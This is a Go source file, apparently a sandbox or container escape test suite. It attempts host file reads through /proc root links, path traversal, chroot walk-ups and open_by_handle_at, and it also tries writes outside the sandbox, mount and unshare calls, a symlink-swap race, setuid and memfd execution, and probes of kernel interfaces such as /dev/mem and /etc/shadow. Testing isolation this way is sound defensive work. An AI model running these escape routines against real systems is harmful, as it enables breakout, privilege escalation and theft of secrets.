package attack

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// readOutside tries to read each named file of the host by every route. It
// prints the contents it got: the caller knows a secret that is in the file and
// nowhere else.
func readOutside(r *Report, args []string) {
	for _, name := range args {
		rel := strings.TrimPrefix(name, "/")
		routes := map[string]string{
			"path":    name,
			"dotdot":  "../../../../../../../../../../" + rel,
			"dotdot2": "/tmp/../../../../../" + rel,
			"self":    "/proc/self/root/" + rel,
			"thread":  "/proc/thread-self/root/" + rel,
			"cwd":     "/proc/self/cwd/../../../../../../" + rel,
		}
		for _, pid := range pids() {
			routes["root of "+pid] = "/proc/" + pid + "/root/" + rel
			routes["cwd of "+pid] = "/proc/" + pid + "/cwd/../../../../../../" + rel
			ents, _ := os.ReadDir("/proc/" + pid + "/fd")
			for _, e := range ents {
				routes["fd "+e.Name()+" of "+pid] = "/proc/" + pid + "/fd/" + e.Name() + "/../../../../../../" + rel
			}
			maps, _ := os.ReadDir("/proc/" + pid + "/map_files")
			if len(maps) > 0 {
				routes["map of "+pid] = "/proc/" + pid + "/map_files/" + maps[0].Name() + "/../" + rel
			}
		}
		for route, path := range routes {
			b, err := os.ReadFile(path)
			r.step(route+": "+name, err == nil, found(b, err))
		}
		// A walk up by descriptor, for a root that was only chrooted.
		up, err := unix.Open("/", unix.O_PATH|unix.O_DIRECTORY, 0)
		for i := 0; err == nil && i < 32; i++ {
			var next int
			if next, err = unix.Openat(up, "..", unix.O_PATH|unix.O_DIRECTORY, 0); err == nil {
				_ = unix.Close(up)
				up = next
			}
		}
		if err == nil {
			fd, err := unix.Openat(up, rel, unix.O_RDONLY, 0)
			var b []byte
			if err == nil {
				b = readFd(fd)
			}
			r.step("openat up: "+name, err == nil, found(b, err))
			_ = unix.Close(up)
		}
		// The dynamic loader opens files on its own account, a shell redirects.
		for _, c := range [][]string{
			{"/lib64/ld-linux-x86-64.so.2", "--preload", name, "/bin/true"},
			{"/lib64/ld-linux-x86-64.so.2", name},
			{"/lib/ld-linux-aarch64.so.1", name},
			{"/bin/sh", "-c", `cat < "$0"`, name},
			{"/bin/sh", name},
			{"/usr/bin/python3", "-c", "import sys;print(open(sys.argv[1]).read())", name},
			{"/usr/bin/perl", "-pe", "1", name},
		} {
			if _, err := os.Stat(c[0]); err != nil {
				continue
			}
			cmd := exec.Command(c[0], c[1:]...)
			cmd.Env = []string{"PATH=/usr/bin:/bin"}
			out, err := cmd.CombinedOutput()
			r.step(filepath.Base(c[0])+": "+name, err == nil && bytes.Contains(out, []byte("secret")), found(out, err))
		}
	}
}

func found(b []byte, err error) string {
	if len(b) > 200 {
		b = b[:200]
	}
	if err != nil && len(b) == 0 {
		return errText(err)
	}
	return fmt.Sprintf("%q", b)
}

func readFd(fd int) []byte {
	b := make([]byte, 4096)
	n, _ := unix.Read(fd, b)
	_ = unix.Close(fd)
	return b[:max(n, 0)]
}

func pids() []string {
	ents, _ := os.ReadDir("/proc")
	var out []string
	for _, e := range ents {
		if _, err := strconv.Atoi(e.Name()); err == nil {
			out = append(out, e.Name())
		}
		if len(out) == 64 {
			break
		}
	}
	return out
}

// writeOutside tries every way to change a file (args[0]) and its directory.
func writeOutside(r *Report, args []string) {
	name := arg(args, 0, "/nothing")
	dir := filepath.Dir(name)
	mark := []byte("changed by the attack\n")
	fd, err := unix.Open(name, unix.O_WRONLY|unix.O_APPEND, 0)
	if err == nil {
		_, err = unix.Write(fd, mark)
		_ = unix.Close(fd)
	}
	r.try("append", err)
	r.try("truncate", unix.Truncate(name, 0))
	r.try("chmod", unix.Chmod(name, 0o777))
	r.try("fchmodat2", errno(unix.Syscall6(452, uintptr(at()), cstr(name), 0o751, 0, 0, 0)))
	r.try("chown", unix.Chown(name, os.Getuid(), os.Getgid()))
	past := []unix.Timespec{{Sec: 1}, {Sec: 1}}
	r.try("utimes", unix.UtimesNanoAt(unix.AT_FDCWD, name, past, 0))
	r.try("setxattr", unix.Setxattr(name, "user.lab", mark, 0))
	r.try("removexattr", unix.Removexattr(name, "user.canary"))
	if fd, err := unix.Open(name, unix.O_RDONLY, 0); err == nil {
		r.try("fchmod", unix.Fchmod(fd, 0o777))
		r.try("futimens", unix.UtimesNanoAt(unix.AT_FDCWD, "/proc/self/fd/"+strconv.Itoa(fd), past, 0))
		r.try("ftruncate", unix.Ftruncate(fd, 0))
		wfd, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_RDWR, 0)
		if err == nil {
			_, err = unix.Write(wfd, mark)
			_ = unix.Close(wfd)
		}
		r.try("reopen for writing", err)
		m, err := unix.Mmap(fd, 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
		if err == nil {
			m[0] = 'X'
			_ = unix.Munmap(m)
		}
		r.try("map shared writable", err)
		_ = unix.Close(fd)
	}
	fd, err = unix.Open(filepath.Join(dir, "new"), unix.O_WRONLY|unix.O_CREAT|unix.O_EXCL, 0o666)
	if err == nil {
		_ = unix.Close(fd)
	}
	r.try("create", err)
	r.try("mkdir", unix.Mkdir(filepath.Join(dir, "newdir"), 0o777))
	r.try("mknod", unix.Mknod(filepath.Join(dir, "newfifo"), unix.S_IFIFO|0o666, 0))
	r.try("symlink", unix.Symlink("/", filepath.Join(dir, "newlink")))
	r.try("link", unix.Link(name, filepath.Join(dir, "newhard")))
	tfd, err := unix.Open(dir, unix.O_TMPFILE|unix.O_RDWR, 0o666)
	if err == nil {
		_ = unix.Close(tfd)
	}
	r.try("tmpfile", err)
	r.try("chmod directory", unix.Chmod(dir, 0o700))
	r.try("rename", unix.Rename(name, name+".moved"))
	if unix.Rename(name+".moved", name) != nil {
		r.try("unlink", unix.Unlink(name))
	}
	r.try("rmdir", unix.Rmdir(dir))
}

func at() int { return unix.AT_FDCWD }

func errno(_, _ uintptr, e unix.Errno) error {
	if e != 0 {
		return e
	}
	return nil
}

var pinned [][]byte

// cstr is a C string that stays where it is: the heap does not move.
func cstr(s string) uintptr {
	b := append([]byte(s), 0)
	pinned = append(pinned, b)
	return uintptr(unsafe.Pointer(&b[0]))
}

// links plants links of every kind to args[0] below args[1] and reads through them.
func links(r *Report, args []string) {
	target, base := arg(args, 0, "/nothing"), arg(args, 1, ".")
	dir := filepath.Join(base, "links")
	_ = os.Mkdir(dir, 0o777)
	plant := func(kind, target string) {
		name := filepath.Join(dir, kind)
		_ = os.Remove(name)
		if err := os.Symlink(target, name); err != nil {
			r.step(kind, false, errText(err))
			return
		}
		b, err := os.ReadFile(name)
		r.step(kind, err == nil, found(b, err))
	}
	plant("absolute", target)
	plant("relative", strings.Repeat("../", 40)+strings.TrimPrefix(target, "/"))
	plant("by-proc", "/proc/self/root"+target)
	plant("by-ppid", fmt.Sprintf("/proc/%d/root%s", os.Getppid(), target))
	plant("chain", filepath.Join(dir, "absolute"))
	_ = os.Symlink(filepath.Dir(target), filepath.Join(dir, "directory"))
	b, err := os.ReadFile(filepath.Join(dir, "directory", filepath.Base(target)))
	r.step("directory", err == nil, found(b, err))
	hard := filepath.Join(dir, "hard")
	err = unix.Linkat(unix.AT_FDCWD, target, unix.AT_FDCWD, hard, 0)
	if err == nil {
		b, err = os.ReadFile(hard)
	}
	r.step("hard", err == nil, found(b, err))
	err = unix.Linkat(unix.AT_FDCWD, filepath.Join(dir, "absolute"), unix.AT_FDCWD, hard+"2", unix.AT_SYMLINK_FOLLOW)
	r.step("hard through a symlink", err == nil, errText(err))
}

// openDescriptors lists what this process was started with. Anything but the
// three streams is a leak; directories and sockets are the worst.
func openDescriptors(r *Report, args []string) {
	for fd := 0; fd < 4096; fd++ {
		var st unix.Stat_t
		if unix.Fstat(fd, &st) != nil {
			continue
		}
		what, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
		if flags, err := unix.FcntlInt(uintptr(fd), unix.F_GETFD, 0); err == nil && flags&unix.FD_CLOEXEC != 0 {
			continue // such a one does not outlive an execve: the runtime of this very process made it
		}
		text := fmt.Sprintf("mode %o dev %d ino %d %s", st.Mode, st.Dev, st.Ino, what)
		if fd > 2 {
			b := make([]byte, 64)
			n, err := unix.Pread(fd, b, 0)
			if err == nil && n > 0 {
				text += fmt.Sprintf(" %q", b[:n])
			}
		}
		r.step(fmt.Sprintf("fd %d", fd), fd > 2 || st.Mode&unix.S_IFMT == unix.S_IFDIR, text)
	}
}

// byHandle opens inodes by number, below every directory it can name, the way
// the old "shocker" escape did.
func byHandle(r *Report, args []string) {
	for _, name := range append([]string{"/", "/usr", "/etc", "/tmp", "/proc", "/dev"}, args...) {
		dir, err := unix.Open(name, unix.O_RDONLY|unix.O_DIRECTORY, 0)
		if err != nil {
			continue
		}
		h, _, err := unix.NameToHandleAt(dir, ".", 0)
		r.note("name_to_handle_at "+name, errText(err))
		tries := []unix.FileHandle{unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0})}
		if err == nil {
			tries = append(tries, h)
		}
		for i, h := range tries {
			fd, err := unix.OpenByHandleAt(dir, h, unix.O_RDONLY)
			text := errText(err)
			if err == nil {
				p, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
				text = p
				_ = unix.Close(fd)
			}
			r.step(fmt.Sprintf("open_by_handle_at %s %d", name, i), err == nil, text)
		}
		_ = unix.Close(dir)
	}
}

// mounts tries to mount anything by every interface.
func mounts(r *Report, args []string) {
	at := arg(args, 0, "/tmp")
	r.try("bind", unix.Mount("/", at, "", unix.MS_BIND, ""))
	r.try("tmpfs", unix.Mount("none", at, "tmpfs", 0, ""))
	r.try("proc", unix.Mount("proc", at, "proc", 0, ""))
	r.try("sysfs", unix.Mount("sysfs", at, "sysfs", 0, ""))
	r.try("cgroup2", unix.Mount("cgroup2", at, "cgroup2", 0, ""))
	r.try("remount rw", unix.Mount("", "/", "", unix.MS_REMOUNT|unix.MS_BIND, ""))
	r.try("shared", unix.Mount("", "/", "", unix.MS_SHARED|unix.MS_REC, ""))
	r.try("umount", unix.Unmount("/proc", unix.MNT_DETACH))
	r.try("pivot_root", unix.PivotRoot(at, at))
	r.try("chroot", unix.Chroot(at))
	fd, err := unix.OpenTree(unix.AT_FDCWD, "/", unix.OPEN_TREE_CLONE)
	r.try("open_tree", err)
	if err == nil {
		r.try("move_mount", unix.MoveMount(fd, "", unix.AT_FDCWD, at, unix.MOVE_MOUNT_F_EMPTY_PATH))
		_ = unix.Close(fd)
	}
	fd, err = unix.Fsopen("tmpfs", 0)
	r.try("fsopen", err)
	if err == nil {
		_ = unix.Close(fd)
	}
	r.try("mount_setattr", unix.MountSetattr(unix.AT_FDCWD, "/", 0, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}))
	r.try("unshare mount", unix.Unshare(unix.CLONE_NEWNS))
	r.try("unshare user+mount", unix.Unshare(unix.CLONE_NEWUSER|unix.CLONE_NEWNS))
}

// swapLoop exchanges a directory (args[0]) with a symbolic link to args[1] for
// args[2] milliseconds: the race against whoever resolves paths below it.
func swapLoop(args []string) int {
	dir, target := arg(args, 0, "swap"), arg(args, 1, "/")
	end := time.Now().Add(time.Duration(number(args, 2, 1000)) * time.Millisecond)
	if err := os.MkdirAll(dir, 0o777); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	_ = os.WriteFile(filepath.Join(dir, filepath.Base(target)), []byte("innocent\n"), 0o666)
	link := dir + ".link"
	if err := os.Symlink(filepath.Dir(target), link); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	fmt.Println("ready")
	for n := 0; ; n++ {
		if err := unix.Renameat2(unix.AT_FDCWD, dir, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE); err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 1
		}
		if n%256 == 0 && time.Now().After(end) {
			return 0
		}
	}
}

// hostileTree fills args[0] with objects on which a naive reader hangs, dies or
// walks out; args[1] is a host file.
func hostileTree(args []string) int {
	dir, target := arg(args, 0, "tree"), arg(args, 1, "/etc/shadow")
	join := func(s string) string { return filepath.Join(dir, s) }
	_ = os.Mkdir(dir, 0o777)
	errs := []error{
		unix.Mkfifo(join("fifo"), 0o666),
		os.Symlink(target, join("link")),
		os.Symlink(strings.Repeat("../", 30)+target, join("uplink")),
		os.Symlink(filepath.Dir(target), join("dirlink")),
		os.Symlink("/nowhere/at/all", join("dangling")),
		os.Symlink("loop", join("loop")),
		os.Symlink("/proc/1/root", join("procroot")),
		os.Symlink("/dev/zero", join("zero")),
		os.WriteFile(join("\xff\xfe\n\x1b[31m"), []byte("x"), 0o666),
		os.WriteFile(join(strings.Repeat("n", 255)), []byte("x"), 0o666),
	}
	f, err := os.Create(join("endless"))
	if err == nil {
		err = f.Truncate(1 << 40)
		_ = f.Close()
	}
	errs = append(errs, err)
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err == nil {
		err = unix.Bind(fd, &unix.SockaddrUnix{Name: join("socket")})
	}
	errs = append(errs, err)
	// A path longer than PATH_MAX, built by descending.
	cwd, _ := os.Getwd()
	err = os.Chdir(dir)
	for i := 0; err == nil && i < 40; i++ {
		d := strings.Repeat("d", 200)
		if err = os.Mkdir(d, 0o777); err == nil {
			err = os.Chdir(d)
		}
	}
	errs = append(errs, err)
	_ = os.Chdir(cwd)
	for i := 0; i < number(args, 2, 0); i++ {
		if f, err := os.Create(join("e" + strconv.Itoa(i))); err == nil {
			_ = f.Close()
		}
	}
	for i, err := range errs {
		if err != nil {
			fmt.Println(i, err)
		}
	}
	fmt.Println("ready")
	return 0
}

// setuidExec runs set-user-id programs: args are paths to try besides those of the system.
func setuidExec(r *Report, args []string) {
	for _, p := range args {
		c := exec.Command(p, append(append([]string{}, prefix...), "status")...)
		out, err := c.Output()
		text := strings.Join(strings.Fields(line(out, "Uid:")), " ")
		eff := strings.Fields(line(out, "Uid:"))
		gained := err == nil && len(eff) > 2 && eff[2] != strconv.Itoa(os.Geteuid())
		if c := strings.Fields(line(out, "CapEff:")); len(c) > 1 && strings.Trim(c[1], "0") != "" && os.Geteuid() != 0 {
			gained, text = true, text+" CapEff "+c[1]
		}
		r.step(p, gained, text+" "+errText(err))
	}
	ents, _ := filepath.Glob("/usr/bin/*")
	for _, p := range ents {
		if fi, err := os.Lstat(p); err == nil && fi.Mode()&os.ModeSetuid != 0 {
			r.note("set-user-id program in sight", p)
		}
	}
}

func line(b []byte, key string) string {
	for _, l := range strings.Split(string(b), "\n") {
		if strings.HasPrefix(l, key) {
			return l
		}
	}
	return ""
}

// memfdExec copies this program into a memfd and executes it, which escapes any
// rule on the paths of programs.
func memfdExec(r *Report, args []string) {
	exe, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		r.step("read own program", false, errText(err))
		return
	}
	fd, err := unix.MemfdCreate("x", 0)
	if err != nil {
		r.step("memfd_create", false, errText(err))
		return
	}
	f := os.NewFile(uintptr(fd), "memfd")
	if _, err := f.Write(exe); err != nil {
		r.step("write", false, errText(err))
		return
	}
	c := exec.Command(fmt.Sprintf("/proc/self/fd/%d", fd), append(append([]string{}, prefix...), "true")...)
	r.try("execute", c.Run())
}

// kernelFiles opens what the kernel offers to administrators.
func kernelFiles(r *Report, args []string) {
	for _, p := range []string{
		"/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sys/kernel/modprobe",
		"/proc/sys/vm/overcommit_memory", "/proc/sys/vm/drop_caches", "/proc/sys/net/ipv4/ip_forward", "/proc/sys/fs/binfmt_misc/register",
		"/proc/irq/default_smp_affinity", "/proc/mtrr", "/proc/acpi/wakeup", "/proc/scsi/scsi", "/sys/kernel/uevent_helper",
		"/sys/power/state", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs",
		"/dev/mem", "/dev/port", "/dev/kmsg", "/dev/loop-control", "/dev/fuse", "/dev/kvm", "/dev/net/tun", "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/rtc0", "/dev/hwrng",
		"/proc/1/mem", "/proc/1/oom_score_adj",
	} {
		// Opened, not written: the effect of a write would be on the whole machine.
		fd, err := unix.Open(p, unix.O_WRONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
		if err == nil {
			var st unix.Stat_t
			if unix.Fstat(fd, &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFCHR && st.Rdev == unix.Mkdev(1, 3) {
				err = errors.New("covered by /dev/null")
			}
			_ = unix.Close(fd)
		}
		r.step("open for writing "+p, err == nil, errText(err))
	}
	// Names of symbols are no secret, addresses are.
	syms, err := os.ReadFile("/proc/kallsyms")
	r.step("addresses in /proc/kallsyms", bytes.Contains(syms, []byte("\nffff")), fmt.Sprintf("%d bytes %s", len(syms), errText(err)))
	for _, p := range []string{
		"/proc/kcore", "/proc/kmsg", "/proc/keys", "/proc/key-users", "/proc/timer_list", "/proc/sched_debug", "/proc/kpagecount", "/proc/kpageflags", "/proc/kpagecgroup",
		"/proc/latency_stats", "/proc/vmallocinfo", "/proc/slabinfo", "/proc/config.gz", "/proc/acpi", "/proc/scsi", "/proc/asound",
		"/proc/interrupts", "/proc/partitions", "/proc/diskstats", "/proc/bus/pci/devices", "/sys/firmware", "/sys/kernel/debug", "/sys/kernel/tracing", "/sys/kernel/security", "/sys/class/net", "/sys/block", "/sys/devices", "/sys/kernel", "/proc/modules", "/sys/devices/virtual/dmi/id/product_name",
		"/dev/kmsg", "/dev/mem", "/dev/vda", "/dev/sda", "/dev/input", "/dev/disk", "/dev/mapper", "/dev/bus",
		"/proc/1/environ", "/proc/1/maps", "/proc/1/stack", "/proc/1/exe",
	} {
		fi, err := os.Stat(p)
		if err == nil && fi.IsDir() {
			ents, err := os.ReadDir(p)
			r.step("list "+p, len(ents) > 0, fmt.Sprintf("%d entries %s", len(ents), errText(err)))
			continue
		}
		fd, err := unix.Open(p, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
		n := 0
		if err == nil {
			n, err = unix.Read(fd, make([]byte, 64))
			_ = unix.Close(fd)
		}
		r.step("read "+p, err == nil && n > 0, fmt.Sprintf("%d bytes %s", max(n, 0), errText(err)))
	}
}

// listProcesses prints every process in sight: the caller has planted one that must not be.
func listProcesses([]string) int {
	n := 0
	for _, pid := range pids() {
		cmd, _ := os.ReadFile("/proc/" + pid + "/cmdline")
		env, _ := os.ReadFile("/proc/" + pid + "/environ")
		fmt.Printf("%s %q environ %d bytes\n", pid, bytes.ReplaceAll(cmd, []byte{0}, []byte{' '}), len(env))
		n++
	}
	// A hidden process still answers to its number.
	for pid := 1; pid < 70000; pid++ {
		if _, err := os.Stat("/proc/" + strconv.Itoa(pid) + "/cmdline"); err == nil {
			cmd, _ := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/cmdline")
			fmt.Printf("number %d %q\n", pid, bytes.ReplaceAll(cmd, []byte{0}, []byte{' '}))
		}
	}
	if n == 0 {
		fmt.Println("no processes in sight")
	}
	return 0
}

func printMountinfo([]string) int {
	b, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	_, _ = os.Stdout.Write(b)
	return 0
}

// workingDirectory says where it stands and reads each args relative to there.
func workingDirectory(r *Report, args []string) {
	wd, err := os.Getwd()
	r.note("getcwd", wd+" "+errText(err))
	link, err := os.Readlink("/proc/self/cwd")
	r.step("cwd is unreachable", strings.HasPrefix(link, "(unreachable)"), link+" "+errText(err))
	for _, name := range args {
		for _, p := range []string{name, strings.Repeat("../", 20) + strings.TrimPrefix(name, "/"), filepath.Base(name)} {
			b, err := os.ReadFile(p)
			r.step("read "+p, err == nil, found(b, err))
		}
	}
}
